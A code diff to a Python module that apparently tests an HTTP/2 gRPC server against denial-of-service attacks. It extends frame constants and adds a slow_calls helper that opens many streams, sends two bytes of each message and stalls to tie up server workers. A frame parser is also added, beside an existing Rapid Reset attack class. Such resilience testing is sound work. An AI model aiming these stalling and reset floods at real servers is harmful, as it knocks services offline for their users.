@@ -12,7 +12,7 @@ import threading
 import time
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x1, 0x3, 0x4, 0x6, 0x7
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
 END_HEADERS, ACK = 0x4, 0x1
 CANCEL = 0x8
 
@@ -128,6 +128,27 @@ class RapidReset(Attack):
         except OSError:
             pass
         closed.set()
+
+
+def slow_calls(port: int, n: int, source: str) -> socket.socket:
+    """One connection with `n` Export calls, each sending the first 2 bytes of a 1,000-byte
+    message and then nothing: each holds a server worker while it waits for the rest."""
+    sock = connect(port, source)
+    out = PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0)
+    block = grpc_headers(f"127.0.0.1:{port}")
+    for stream in range(1, 2 * n, 2):
+        out += frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, 0, stream, b"\x00" + struct.pack(">I", 1000) + b"ab")
+    sock.sendall(out)
+    return sock
+
+
+def frames(data: bytes) -> list[tuple[int, int, int]]:
+    """(type, flags, stream) of each whole frame in `data`."""
+    out = []
+    while len(data) >= 9 and len(data) >= 9 + int.from_bytes(data[:3], "big"):
+        out.append((data[3], data[4], int.from_bytes(data[5:9], "big") & 0x7FFFFFFF))
+        data = data[9 + int.from_bytes(data[:3], "big"):]
+    return out
 
 
 def preface_only(port: int, n: int, source: str = "127.0.0.1") -> list[socket.socket]:
